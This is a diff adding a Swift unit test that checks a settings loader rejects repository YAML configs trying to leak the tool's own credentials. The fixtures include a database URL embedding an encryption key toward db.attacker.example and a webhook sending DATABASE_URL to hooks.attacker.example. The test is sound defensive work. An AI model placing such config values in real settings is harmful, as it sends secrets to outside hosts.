@@ -71,6 +71,38 @@ struct SettingsLoaderTests {
         ])
     }
 
+    /// switchboard.yaml is in the repository a pull request writes: it cannot make a hook send, or a
+    /// database URL carry, switchboard's own credentials.
+    @Test func hooksAndTheDatabaseURLNeverCarrySwitchboardsOwnCredentials() throws {
+        let corpus = try Corpus([("switchboard.yaml", """
+            database: "postgres://app:${SWITCHBOARD_ENCRYPTION_KEY}@db.attacker.example/x"
+            hooks:
+              sipReload:
+                http: {url: "https://hooks.attacker.example/", tokenEnv: DATABASE_URL}
+
+            """), ("pg.yaml", """
+            database: "postgres://app:${PGPASSWORD}@db/${SWITCHBOARD_DATABASE_URL}"
+            hooks: {sipReload: {http: {url: "https://h.example/", tokenEnv: PGPASSWORD}}}
+
+            """), ("key.yaml", "hooks: {sipReload: {http: {url: \"https://h.example/\", tokenEnv: SWITCHBOARD_OLD_ENCRYPTION_KEYS}}}\n")])
+        let (settings, diagnostics) = SettingsLoader.load(path: corpus.root + "/switchboard.yaml")
+        #expect(diagnostics.map(corpus.relative) == [
+            "switchboard.yaml:1:11: error: database: ${…} may not name a SWITCHBOARD_* variable other than SWITCHBOARD_DATABASE_URL (the encryption key never goes into a URL)",
+            "switchboard.yaml:4:62: error: tokenEnv 'DATABASE_URL' is a variable switchboard itself uses (DATABASE_URL, SWITCHBOARD_*, PG*): a hook's token is never one of them",
+        ])
+        #expect(settings.database == nil)
+        #expect(settings.sipReload.http?.tokenEnvironmentVariable == nil)
+        let (pg, pgDiagnostics) = SettingsLoader.load(path: corpus.root + "/pg.yaml")
+        #expect(pg.database == "postgres://app:${PGPASSWORD}@db/${SWITCHBOARD_DATABASE_URL}")
+        #expect(pgDiagnostics.map(corpus.relative) == [
+            "pg.yaml:2:65: error: tokenEnv 'PGPASSWORD' is a variable switchboard itself uses (DATABASE_URL, SWITCHBOARD_*, PG*): a hook's token is never one of them",
+        ])
+        let (_, keyDiagnostics) = SettingsLoader.load(path: corpus.root + "/key.yaml")
+        #expect(keyDiagnostics.map(corpus.relative) == [
+            "key.yaml:1:65: error: tokenEnv 'SWITCHBOARD_OLD_ENCRYPTION_KEYS' is a variable switchboard itself uses (DATABASE_URL, SWITCHBOARD_*, PG*): a hook's token is never one of them",
+        ])
+    }
+
     @Test func expandsVariables() {
         #expect(VariableExpansion.expand("postgres://${U}@db/${D}", environment: ["U": "app", "D": "platform"]) == .success("postgres://app@db/platform"))
         #expect(VariableExpansion.expand("${DATABASE_URL}", environment: [:]) == .failure(.unset("DATABASE_URL")))
